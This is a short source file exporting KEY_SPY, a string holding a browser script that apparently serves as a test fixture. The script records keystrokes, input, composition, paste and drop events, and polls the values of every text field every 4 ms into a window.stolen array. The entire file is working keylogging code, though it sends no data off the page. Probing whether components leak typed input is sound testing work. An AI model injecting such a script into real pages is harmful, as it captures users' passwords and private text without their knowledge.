/** Script of a page that notes in `stolen` all that it comes to know of what is typed: keys, texts of events, and what stands in its fields. */
export const KEY_SPY = `
  window.stolen = [];
  const note = (event) => {
    const text = [event.key?.length === 1 && !event.ctrlKey ? event.key : "", event.data ?? "", event.clipboardData?.getData("text") ?? "", event.dataTransfer?.getData("text") ?? ""].join("");
    if (text !== "") window.stolen.push(event.type + ":" + text);
  };
  for (const type of ["keydown", "keypress", "keyup", "beforeinput", "input", "compositionstart", "compositionupdate", "compositionend", "paste", "drop", "textInput"])
    addEventListener(type, note, true);
  const read = (root) => {
    for (const field of root.querySelectorAll("input, textarea, [contenteditable]")) {
      const value = field.value ?? field.textContent;
      if (value) window.stolen.push("value:" + value);
    }
  };
  const poll = () => { read(document); for (const tree of window.trees ?? []) read(tree); };
  setInterval(poll, 4);
  addEventListener("selectionchange", poll, true);`;
